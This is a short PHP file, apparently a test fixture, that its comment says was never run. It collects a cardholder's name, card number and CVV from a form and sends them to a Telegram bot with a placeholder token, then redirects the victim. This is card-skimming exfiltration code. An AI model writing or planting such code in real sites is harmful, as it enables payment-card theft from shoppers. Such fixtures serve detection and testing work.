<?php
// card data sent to a Telegram bot (written for the tests, never run)
$text = "Name: {$_POST['holder']}\nCard: {$_POST['cardnumber']}\nCVV: {$_POST['cvv']}";
$url = "https://api.telegram.org/bot000000:TESTTOKEN/sendMessage?chat_id=1&text=";
file_get_contents($url . urlencode($text));
header("Location: done.html");
